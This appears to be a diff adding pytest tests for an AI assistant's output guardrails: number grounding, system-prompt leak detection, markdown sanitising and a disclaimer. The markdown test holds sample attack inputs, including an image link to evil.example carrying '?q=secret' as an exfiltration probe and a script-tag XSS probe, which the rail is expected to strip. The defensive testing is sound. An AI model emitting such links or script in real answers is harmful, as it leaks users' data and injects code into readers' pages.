@@ -187,3 +187,54 @@ def test_scope_refuses_everyday_off_topic_questions_by_meaning_in_any_language()
         assert d.verdict == "pass" and d.score is not None and d.score < 0, (question, d)
     with pytest.raises(ValueError, match="scope description or examples"):
         rail.check("anything", Context("input"))
+
+
+# --- output ---------------------------------------------------------------------------------------
+def test_grounding_removes_sentences_whose_numbers_the_cited_passages_lack() -> None:
+    from guardrails.rails.output import Grounding, GroundingParams
+
+    rail = Grounding(GroundingParams(), NO_TOOLS)
+    ctx = Context("output", passages=["The team was set up in 2016. It works with more than 2.000 academics."])
+    assert rail.check("It started in 2016 [1]. It has over 2,000 academics [1].", ctx).verdict == "pass"
+    assert rail.check("It has 2.000 academics [1]. Since 2016.", ctx).verdict == "pass"
+    d = rail.check("It started in 2016 [1]. It costs £4 million a year [1]. It has 2 000 academics.", ctx)
+    assert d.verdict == "fail" and d.text == "It started in 2016 [1].  It has 2 000 academics." .replace("  ", " ")
+    assert "4" in d.detail
+    assert rail.check("It costs £4 million.", ctx).text is None  # nothing left: the policy's action decides
+
+
+def test_system_prompt_leak_catches_the_canary_and_long_runs_of_prompt_words() -> None:
+    from assistant.prompts import CANARY, SYSTEM
+    from guardrails.rails.output import LeakParams, SystemPromptLeak
+
+    rail = SystemPromptLeak(LeakParams(), NO_TOOLS)
+    out = Context("output")
+    assert rail.check(f"Sure: {CANARY.lower()}", out).verdict == "fail"
+    assert rail.check("My instructions: " + " ".join(SYSTEM.split()[:14]), out).verdict == "fail"
+    assert rail.check("You are Waymark, an assistant. Projects last three to six months [1].", out).verdict == "pass"
+
+
+def test_markdown_keeps_allowed_links_and_strips_images_other_links_and_html() -> None:
+    from guardrails.rails.output import Markdown, MarkdownParams
+
+    rail = Markdown(MarkdownParams(allowed_domains=["gov.uk"]), NO_TOOLS)
+    out = Context("output")
+    ok = "See [the guidance](https://www.gov.uk/ai) and <https://gov.uk/x>."
+    assert rail.check(ok, out).verdict == "pass"
+    d = rail.check("![x](https://evil.example/p.png?q=secret) Read [this](http://evil.example) or "
+                   "https://evil.example/a <script>alert(1)</script>done", out)
+    assert d.verdict == "fail" and d.text == "x Read this or [link removed] alert(1)done"
+    assert d.detail == "removed image×1, link×2, html×2"
+
+
+def test_disclaimer_is_added_once_in_the_askers_language() -> None:
+    from guardrails.rail import Params
+    from guardrails.rails.output import Disclaimer
+
+    rail = Disclaimer(Params(), NO_TOOLS)
+    ctx = Context("output", disclaimer="Vérifiez la source.")
+    d = rail.check("Réponse [1].", ctx)
+    assert d.verdict == "pass" and d.text == "Réponse [1].\n\nVérifiez la source."
+    assert rail.check(d.text, ctx).text is None
+    with pytest.raises(ValueError, match="disclaimer message"):
+        rail.check("Answer.", Context("output"))
